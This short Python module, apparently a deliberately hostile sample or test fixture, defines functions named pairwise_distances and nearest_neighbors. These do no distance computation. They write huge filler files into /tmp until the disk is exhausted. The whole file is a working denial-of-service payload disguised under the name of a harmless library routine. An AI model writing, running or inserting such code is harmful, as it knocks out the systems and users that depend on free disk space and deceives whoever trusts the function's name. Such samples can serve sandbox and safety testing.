"""Hostile: fills every writable place with data."""
import os


def pairwise_distances(x, y=None):
    written = 0
    chunk = b"x" * (1 << 20)
    try:
        for i in range(100000):
            with open(f"/tmp/fill-{i}", "wb") as f:
                for _ in range(1 << 20):
                    f.write(chunk)
                    written += len(chunk)
    except OSError as e:
        raise OSError(f"stopped after {written >> 20} MiB: {e}") from None


nearest_neighbors = pairwise_distances
